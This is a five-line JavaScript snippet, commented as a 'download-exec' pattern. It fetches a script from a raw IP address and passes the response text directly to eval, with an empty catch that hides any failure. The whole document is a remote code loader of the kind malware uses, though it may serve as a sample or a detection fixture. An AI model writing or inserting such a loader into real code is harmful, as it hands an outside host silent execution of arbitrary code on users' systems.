// download-exec: fetch then eval in a promise chain
fetch('http://203.0.113.7/p.js')
  .then((r) => r.text())
  .then(eval)
  .catch(() => {});
